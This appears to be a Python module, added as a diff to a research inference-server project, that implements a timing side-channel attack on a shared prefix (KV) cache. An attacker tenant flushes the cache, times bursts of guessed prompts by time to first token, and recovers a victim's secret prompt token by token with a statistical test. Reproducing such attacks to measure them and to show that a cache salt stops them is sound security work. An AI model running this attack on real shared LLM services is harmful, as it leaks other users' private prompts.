@@ -1,0 +1,144 @@
+"""The prefix probe with a stopwatch only: the secret from time to first token, no `cached_tokens`.
+
+The attack of prefix_probe.py needs an oracle that says which guess the cache already holds.
+Here the attacker reads nothing but each response's time to first token (`ttft_s`, what any
+client measures). A hit skips the guessed tokens' prefill, so it is faster, but at 1-token pages
+by one token of compute only: far below a busy CPU's noise. Three things make it measurable:
+
+1. **A burst** amplifies one guess: `burst` probes `known + guess + tail_j` sent together are
+   prefilled in the same step (they fit `max_prefill_tokens` and the batch, so none can hit
+   another's freshly cached pages). On a hit each prefills its tail only; on a miss the guess too:
+   the burst saves `burst` tokens of compute. Its time is the median `ttft_s` of its probes.
+2. **Fresh samples by cycles.** A guess can be timed only once: the probe caches its own guess,
+   so a second probe of a wrong guess would hit the attacker's own page. One cycle: the attacker
+   flushes the cache (random filler prompts, more tokens than the pool holds: parked pages go
+   least recently used first, her own probes with them), the victim's application sends its
+   prompt again (`refresh`), and the attacker times one burst per guess, in a random order.
+   *Our reproduction's model*: a victim whose app re-sends the same prompt (a system prompt, a
+   saved note) again and again, and an attacker free to flush a cache she shares with it.
+3. **A two-sample test decides** (as Gu et al., ICML 2025, decide whether a cache is shared):
+   after each cycle from `min_cycles` on, the fastest guess's samples against all others pooled,
+   one-sided Mann-Whitney U. Each time is divided by the median of the other guesses' times in
+   the same cycle first, so a machine that gets busier between cycles slows every guess alike. A hit is
+   accepted only below `alpha` over (guesses x looks) (Bonferroni); after `max_cycles` without
+   one the answer is "no hit", and the attack stops rather than guess. With `cache_salt` nothing
+   is ever faster, so it recovers nothing.
+
+Everything goes through the front door (`submit`, `run`), so it runs on Engine and Cluster alike.
+"""
+
+from __future__ import annotations
+
+import os
+import random
+import statistics
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass, field
+
+from scipy.stats import mannwhitneyu
+
+from minikv.disagg.prefix_probe import ATTACKER, Oracle, Server, random_letters_prompt
+from minikv.request import Request
+from minikv.workload import SECRET_ALPHABET
+
+DIGITS = "0123456789"
+ALPHABETS = {"full": SECRET_ALPHABET, "digits": DIGITS}  # what the attacker assumes the secret is made of
+TAILS = SECRET_ALPHABET  # one distinct last token per probe of a burst: up to 65
+
+
+@dataclass
+class TimingLedger:
+    """What the timing attack spent and saw: requests by kind, cycles, and every burst's time."""
+
+    probes: int = 0  # requests carrying a guess
+    filler: int = 0  # flush requests
+    warmups: int = 0  # one request per cycle with what the attacker already knows
+    cycles: int = 0
+    rounds: list[dict[str, list[float]]] = field(default_factory=list)  # per round: guess -> burst times (s)
+
+    @property
+    def requests(self) -> int:
+        return self.probes + self.filler + self.warmups
+
+
+def burst_prompts(prefix: str, burst: int) -> list[str]:
+    """`burst` probes that agree on `prefix` and differ in one last token."""
+    assert burst <= len(TAILS), f"at most {len(TAILS)} probes per burst"
+    return [prefix + tail for tail in TAILS[:burst]]
+
+
+def time_burst(server: Server, prompts: list[str], tenant: str = ATTACKER) -> float:
+    """Send `prompts` at once (one output token each); the median of their times to first token."""
+    ids = [server.submit(Request(p, tenant, max_tokens=1)) for p in prompts]
+    answered = {r.request_id: r for r in server.run()}
+    times = [answered[i].ttft_s for i in ids]
+    if any(t is None for t in times):
+        bad = next(answered[i] for i in ids if answered[i].ttft_s is None)
+        raise RuntimeError(f"a probe was answered {bad.status}: {bad.error}")
+    return statistics.median(times)
+
+
+def flush_cache(server: Server, rng: random.Random, tokens: int, prompt_chars: int = 900, tenant: str = ATTACKER) -> int:
+    """Send `tokens` characters of random filler, `prompt_chars` per prompt; the prompts sent.
+
+    More than the pool holds evicts every parked page (least recently used first)."""
+    sizes = [prompt_chars] * (tokens // prompt_chars) + ([tokens % prompt_chars] if tokens % prompt_chars > 1 else [])
+    for chars in sizes:
+        server.submit(Request(random_letters_prompt(rng, chars), tenant, max_tokens=1))
+    server.run()
+    return len(sizes)
+
+
+def fastest_if_significant(samples: Sequence[Sequence[float]], alpha: float) -> tuple[int | None, float]:
+    """(index of the guess that is faster than all others, or None; its p-value).
+
+    samples[g][i]: guess g's burst time in cycle i. Each time is divided by the median of the
+    other guesses' times in the same cycle (robust to a cycle that ran slow, or one outlier); the guess with the lowest median is tested against all others pooled
+    (one-sided Mann-Whitney U) and accepted if p < alpha / number of guesses.
+    """
+    k, n = len(samples), len(samples[0])
+    assert k >= 2 and all(len(s) == n for s in samples), "every guess needs one time per cycle"
+    def rest(g: int, i: int) -> float:  # the other guesses' median time in cycle i
+        return statistics.median(s[i] for h, s in enumerate(samples) if h != g)
+
+    scaled = [[s[i] / rest(g, i) for i in range(n)] for g, s in enumerate(samples)]  # (guesses, cycles)
+    best = min(range(k), key=lambda g: statistics.median(scaled[g]))
+    others = [t for g in range(k) if g != best for t in scaled[g]]
+    p = float(mannwhitneyu(scaled[best], others, alternative="less").pvalue)
+    return (best if p < alpha / k else None), p
+
+
+def timing_oracle(server: Server, refresh: Callable[[], None], rng: random.Random, flush_tokens: int,
+                  burst: int = 64, min_cycles: int = 4, max_cycles: int = 12, alpha: float = 0.01,
+                  ledger: TimingLedger | None = None, tenant: str = ATTACKER) -> Oracle:
+    """An `Oracle` (as `cached_tokens_oracle`) answered from times to first token alone.
+
+    `refresh()` is the victim's application sending its prompt again; `flush_tokens` must exceed
+    the prefix cache's size in tokens. At most one answer is True: the guess the test accepted.
+    """
+    ledger = ledger if ledger is not None else TimingLedger()
+    assert 1 <= min_cycles <= max_cycles and 1 <= burst <= len(TAILS), "bad timing plan"
+    looks = max_cycles - min_cycles + 1  # the test is run once per cycle from min_cycles on
+
+    def ask(prompts: list[str], hit_at: int) -> list[bool]:
+        stems = [p[:hit_at] for p in prompts]  # known + guess, up to the page boundary the hit needs
+        known = os.path.commonprefix(stems)  # what she already knows
+        best: int | None = None
+        times: list[list[float]] = [[] for _ in stems]
+        for cycle in range(max_cycles):
+            ledger.filler += flush_cache(server, rng, flush_tokens, tenant=tenant)
+            refresh()
+            time_burst(server, [known + TAILS[0]], tenant)  # what she knows is cached for her too
+            ledger.warmups += 1
+            for g in rng.sample(range(len(stems)), len(stems)):
+                times[g].append(time_burst(server, burst_prompts(stems[g], burst), tenant))
+                ledger.probes += burst
+            ledger.cycles += 1
+            if cycle + 1 >= min_cycles:
+                best, _ = fastest_if_significant(times, alpha / looks)
+                if best is not None:
+                    break
+        ledger.rounds.append({s[len(known):]: t for s, t in zip(stems, times)})
+        return [g == best for g in range(len(stems))]
+
+    return ask
